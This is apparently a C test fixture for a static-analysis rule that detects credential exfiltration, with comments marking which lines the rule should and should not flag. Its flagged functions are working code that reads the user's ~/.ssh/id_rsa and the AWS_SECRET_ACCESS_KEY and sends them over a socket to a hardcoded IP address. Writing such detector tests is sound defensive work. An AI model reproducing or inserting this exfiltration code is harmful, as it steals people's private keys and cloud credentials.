/* Fixture for c-exfil-credentials (the rule reports once per file, at the first credential name).
 * RULEID: ~/.ssh/id_rsa built with snprintf, read and sent over a socket to a #defined literal IP
 *   (the AWS secret read after it is the same finding's file).
 * OK, before it: /etc/passwd, ~/.ssh/known_hosts and getenv("HOME")/getenv("API_TOKEN") are not
 *   credential stores this rule names. (c-exfil-credentials.cpp: libcurl POST of /etc/shadow.) */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <sys/socket.h>

#define COLLECTOR "185.199.0.77"

static void ship(const char *buf, size_t n) {
    struct sockaddr_in sa = {0};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(8443);
    sa.sin_addr.s_addr = inet_addr(COLLECTOR);
    connect(s, (struct sockaddr *)&sa, sizeof sa);
    send(s, buf, n, 0);
    close(s);
}

void whoami(void) {
    // ok: c-exfil-credentials
    FILE *pw = fopen("/etc/passwd", "r");
    // ok: c-exfil-credentials
    const char *token = getenv("API_TOKEN");
    char hosts[512];
    // ok: c-exfil-credentials
    snprintf(hosts, sizeof hosts, "%s/.ssh/known_hosts", getenv("HOME"));
    fclose(pw);
    (void)token;
}

void grab_key(void) {
    char path[512], buf[8192];
    // ruleid: c-exfil-credentials
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", getenv("HOME"));
    FILE *f = fopen(path, "r");
    size_t n = fread(buf, 1, sizeof buf, f);
    ship(buf, n);
}

void grab_env(void) {
    const char *k = getenv("AWS_SECRET_ACCESS_KEY");
    if (k) ship(k, strlen(k));
}
